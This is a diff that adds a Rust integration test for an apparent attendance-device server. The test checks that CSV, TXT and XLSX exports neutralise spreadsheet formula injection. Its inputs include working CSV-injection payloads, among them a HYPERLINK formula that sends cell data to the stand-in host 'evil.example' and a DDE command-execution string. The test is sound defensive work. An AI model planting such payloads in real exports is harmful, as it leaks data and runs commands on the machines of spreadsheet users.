@@ -955,3 +955,93 @@ async fn biodatas_list_templates_and_adjust_actions_set_organisation_fields() {
     assert_eq!(status, 400);
     assert_eq!(api.get(&format!("/personnel/api/employees/{ann}/")).await["department"]["id"], other_dept, "unchanged");
 }
+
+/// Devices are unauthenticated, and what they send (PINs, work codes, serial numbers, user
+/// names) lands in the export; a spreadsheet would run any cell starting with `=`, `+`, `-`, `@`
+/// as a formula. CSV and TXT cells starting that way get a leading `'` (OWASP); the workbook
+/// writes them as string cells, never formulas.
+#[tokio::test]
+async fn export_cells_that_would_start_a_formula_are_quoted_in_csv_and_txt() {
+    const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+    let dir = tempfile::tempdir().unwrap();
+    let server = Server::start(dir.path(), &[]);
+    let api = Api::login(&server).await;
+    let device = Device { server: &server, sn: "@SUM(1)".into() };
+    device.handshake().await;
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let users = format!(
+        "USER PIN==1+2\tName={name}\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n\
+         USER PIN=-7\tName=+cmd|' /C calc'!A0\tPri=0\tPasswd=\tCard=\tGrp=1\tTZ=0000000100000000\tVerify=-1\tViceCard=\n"
+    );
+    let path = format!("/iclock/cdata?SN={}&table=OPERLOG&Stamp=1", device.sn);
+    assert_eq!(device.post(&path, users.as_bytes()).await.status, 200);
+    let punches = "=1+2\t2026-11-20 08:00:00\t0\t1\t-2+3\t0\t0\n\
+                   -7\t2026-11-20 09:00:00\t0\t1\t@A1\t0\t0\n\
+                   +SUM(A1)\t2026-11-20 10:00:00\t0\t1\t=1*1\t0\t0\n\
+                   0042\t2026-11-20 11:00:00\t0\t1\t0\t0\t0\n";
+    assert_eq!(device.attlog(punches.as_bytes()).await.text(), "OK: 4");
+    let listed = api.transactions("").await;
+    assert_eq!(listed.len(), 4, "{listed:?}");
+    let formula = listed.iter().find(|t| t["emp_code"] == "=1+2").expect("the =1+2 punch");
+    assert_eq!(formula["first_name"], name, "the name reached the roster: {formula}");
+
+    let download = |query: &'static str| {
+        let api = &api;
+        async move {
+            let response = api
+                .client
+                .get(format!("http://{}/iclock/api/transactions/export/?{query}", api.server_addr))
+                .header("Authorization", format!("Token {}", api.token))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(response.status().as_u16(), 200, "{query}");
+            response.bytes().await.unwrap().to_vec()
+        }
+    };
+    for (query, delimiter) in [("export_type=csv", b','), ("export_type=txt", b'\t')] {
+        let bytes = download(query).await;
+        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(&bytes[..]);
+        let header = reader.headers().unwrap().clone();
+        let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("column {name}"));
+        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        assert_eq!(records.len(), 4, "{query}: {}", String::from_utf8_lossy(&bytes));
+        for record in &records {
+            for cell in record {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{query}: cell {cell:?} would run as a formula");
+            }
+            assert_eq!(&record[column("terminal_sn")], "'@SUM(1)", "{query}");
+        }
+        let row = |pin: &str| {
+            records
+                .iter()
+                .find(|r| &r[column("emp_code")] == pin)
+                .unwrap_or_else(|| panic!("{query}: no row for {pin}: {records:?}"))
+        };
+        let first = row("'=1+2");
+        assert_eq!((&first[column("first_name")], &first[column("work_code")]), (&*format!("'{name}"), "'-2+3"));
+        let second = row("'-7");
+        assert_eq!((&second[column("first_name")], &second[column("work_code")]), ("'+cmd|' /C calc'!A0", "'@A1"));
+        assert_eq!(&row("'+SUM(A1)")[column("work_code")], "'=1*1", "{query}");
+        // Ordinary cells are untouched.
+        let plain = row("0042");
+        assert_eq!((&plain[column("work_code")], &plain[column("punch_time")]), ("0", "2026-11-20 11:00:00"));
+    }
+
+    // The workbook: the same values as string cells, no formula anywhere.
+    let bytes = download("export_type=xlsx").await;
+    let mut workbook =
+        <calamine::Xlsx<_> as calamine::Reader<_>>::new(std::io::Cursor::new(bytes)).expect("a valid xlsx file");
+    let formulas = calamine::Reader::worksheet_formula(&mut workbook, "transactions").expect("worksheet");
+    assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()), "{formulas:?}");
+    let sheet = calamine::Reader::worksheet_range(&mut workbook, "transactions").expect("worksheet");
+    let rows: Vec<Vec<calamine::Data>> = sheet.rows().map(<[calamine::Data]>::to_vec).collect();
+    let header: Vec<String> = rows[0].iter().map(ToString::to_string).collect();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("column {name}"));
+    let row = rows[1..]
+        .iter()
+        .find(|r| r[column("emp_code")] == calamine::Data::String("=1+2".into()))
+        .expect("the =1+2 row, as a string cell");
+    assert_eq!(row[column("first_name")], calamine::Data::String(name.into()));
+    assert_eq!(row[column("work_code")], calamine::Data::String("-2+3".into()));
+}
